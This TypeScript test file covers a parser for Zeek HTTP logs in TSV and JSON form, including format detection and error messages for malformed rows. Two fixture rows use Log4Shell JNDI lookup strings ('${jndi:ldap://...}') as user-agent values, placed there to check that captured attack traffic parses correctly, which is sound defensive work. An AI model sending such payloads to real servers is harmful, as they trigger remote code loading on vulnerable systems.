import { describe, expect, test } from 'vitest';
import { formatIp } from '../../core/ip.js';
import type { HttpRequest } from './http-request.js';
import { detectZeekHttp, ZeekHttpParser } from './zeek-http-parser.js';

const TSV_HEAD = [
  '#separator \\x09',
  '#set_separator\t,',
  '#empty_field\t(empty)',
  '#unset_field\t-',
  '#path\thttp',
  '#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\treferrer\tversion\tuser_agent\torigin\tusername\tproxied',
  '#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\tstring\tstring\tstring\tset[string]',
];

function parse(parser: ZeekHttpParser, lines: string[]) {
  const out: HttpRequest[] = [];
  const results = lines.map((l, i) => parser.parseLine(l, i + 1, out));
  return { results, out: out.map((r) => ({ ...r, src: formatIp(r.src), dst: formatIp(r.dst) })) };
}

describe('detectZeekHttp', () => {
  test.each([
    ['tsv http.log', TSV_HEAD, 'tsv'],
    ['tsv without #path', TSV_HEAD.filter((l) => !l.startsWith('#path')).concat(['1\tC\t1.2.3.4\t1\t5.6.7.8\t80\t1\tGET\th\t/\t-\t1.1\tua\t-\t-\t-']), 'tsv'],
    ['tsv conn.log', ['#separator \\x09', '#path\tconn', '#fields\tts\tuid\tid.orig_h'], undefined],
    ['json http.log', ['{"ts":1.5,"id.orig_h":"10.0.0.1","id.orig_p":1,"id.resp_h":"10.0.0.2","id.resp_p":80,"method":"GET","uri":"/"}'], 'json'],
    ['json nested id', ['{"ts":1.5,"id":{"orig_h":"10.0.0.1"},"method":"GET","uri":"/"}'], 'json'],
    ['json conn.log', ['{"ts":1.5,"id.orig_h":"10.0.0.1","proto":"tcp","conn_state":"SF"}'], undefined],
    ['jsonl of something else', ['{"a":1}'], undefined],
    ['csv', ['src,dst,port', '1.2.3.4,5.6.7.8,80'], undefined],
  ])('%s', (_name, head, expected) => {
    expect(detectZeekHttp(head)).toBe(expected);
  });
});

describe('ZeekHttpParser', () => {
  test('TSV rows: unset fields, escapes, sets', () => {
    const { results, out } = parse(new ZeekHttpParser('tsv'), [
      ...TSV_HEAD,
      '1672843056.914972\tCX\t10.136.0.18\t55548\t10.136.0.16\t3128\t1\tCONNECT\twww.google.com\twww.google.com:443\t-\t1.1\tModzilla/-2.0 (Atari 7800)\t-\t-\tPROXY-CONNECTION -> Keep-Alive,X-FORWARDED-FOR -> 1.2.3.4',
      '1.001\tCY\t2001:db8::1\t1\t2001:db8::2\t8080\t1\tGET\t-\t/a\\x09b\thttp://r.example/\t1.1\t${jndi:ldap://h.example/a}\thttp://o.example\tbob\t(empty)',
    ]);
    expect(results).toEqual([false, false, false, false, false, false, false, true, true]);
    expect(out).toEqual([
      {
        ts: 1672843056914,
        src: '10.136.0.18',
        dst: '10.136.0.16',
        sport: 55548,
        dport: 3128,
        method: 'CONNECT',
        host: 'www.google.com',
        uri: 'www.google.com:443',
        user_agent: 'Modzilla/-2.0 (Atari 7800)',
        headers: 'Zeek-Proxied: PROXY-CONNECTION -> Keep-Alive, X-FORWARDED-FOR -> 1.2.3.4',
        body: '',
        source: 'zeek-http',
      },
      {
        ts: 1001,
        src: '2001:db8::1',
        dst: '2001:db8::2',
        sport: 1,
        dport: 8080,
        method: 'GET',
        host: '',
        uri: '/a\tb',
        user_agent: '${jndi:ldap://h.example/a}',
        headers: 'Referer: http://r.example/\nOrigin: http://o.example\nZeek-Username: bob',
        body: '',
        source: 'zeek-http',
      },
    ]);
  });

  test('TSV problems: column count, addresses, ports, time; a conn.log header', () => {
    const { results } = parse(new ZeekHttpParser('tsv'), [
      ...TSV_HEAD,
      '1.0\tC\t10.0.0.1\t1\t10.0.0.2\t80',
      '1.0\tC\t10.0.0.999\t1\t10.0.0.2\t80\t1\tGET\th\t/\t-\t1.1\tua\t-\t-\t-',
      '1.0\tC\t10.0.0.1\t70000\t10.0.0.2\t80\t1\tGET\th\t/\t-\t1.1\tua\t-\t-\t-',
      'yesterday\tC\t10.0.0.1\t1\t10.0.0.2\t80\t1\tGET\th\t/\t-\t1.1\tua\t-\t-\t-',
      '1.0\tC\t10.0.0.1\t1\t-\t80\t1\tGET\th\t/\t-\t1.1\tua\t-\t-\t-',
    ]);
    expect(results.slice(7)).toEqual([
      { code: 'IMPORT_RECORD', line: 8, message: 'truncated line: expected 16 columns, got 6' },
      { code: 'IMPORT_RECORD', line: 9, message: "bad address in field 'id.orig_h': '10.0.0.999'" },
      { code: 'IMPORT_RECORD', line: 10, message: "value out of range in field 'id.orig_p': '70000'" },
      { code: 'IMPORT_RECORD', line: 11, message: "bad time in field 'ts': 'yesterday'" },
      { code: 'IMPORT_RECORD', line: 12, message: "missing value in field 'id.resp_h': ''" },
    ]);
    const conn = new ZeekHttpParser('tsv');
    expect(conn.parseLine('#path\tconn', 1, [])).toEqual({ code: 'IMPORT_FORMAT', line: 1, message: "unknown header: this Zeek log is 'conn', not an http log" });
    expect(new ZeekHttpParser('tsv').parseLine('1.0\tx', 1, [])).toMatchObject({ code: 'IMPORT_FORMAT', line: 1 });
  });

  test('JSON rows and problems', () => {
    const { results, out } = parse(new ZeekHttpParser('json'), [
      '{"ts":80.734979,"id.orig_h":"10.0.2.15","id.orig_p":49168,"id.resp_h":"195.113.232.72","id.resp_p":80,"method":"GET","host":"img.example","uri":"/x.img","referrer":"http://www.msn.com/","user_agent":"${jndi:ldap://xyz.xyz.com:39356/a}","tags":[]}',
      '{"ts":"2023-01-05T18:51:06.5Z","id":{"orig_h":"10.0.0.1","orig_p":1,"resp_h":"10.0.0.2","resp_p":80},"uri":"/"}',
      '{"ts":1.0,"id.orig_h":"10.0.0.1","id.orig_p":1,"id.resp_h":"10.0.0.2"',
      '{"ts":1.0,"id.orig_h":"10.0.0.1","id.orig_p":"x","id.resp_h":"10.0.0.2","id.resp_p":80}',
      '[1,2]',
      '',
    ]);
    expect(out).toEqual([
      { ts: 80734, src: '10.0.2.15', dst: '195.113.232.72', sport: 49168, dport: 80, method: 'GET', host: 'img.example', uri: '/x.img', user_agent: '${jndi:ldap://xyz.xyz.com:39356/a}', headers: 'Referer: http://www.msn.com/', body: '', source: 'zeek-http' },
      { ts: 1672944666500, src: '10.0.0.1', dst: '10.0.0.2', sport: 1, dport: 80, method: '', host: '', uri: '/', user_agent: '', headers: '', body: '', source: 'zeek-http' },
    ]);
    expect(results.slice(2)).toEqual([
      { code: 'IMPORT_RECORD', line: 3, message: 'truncated line: the JSON object is not closed' },
      { code: 'IMPORT_RECORD', line: 4, message: "bad number in field 'id.orig_p': 'x'" },
      { code: 'IMPORT_RECORD', line: 5, message: 'not a JSON object' },
      false,
    ]);
  });
});
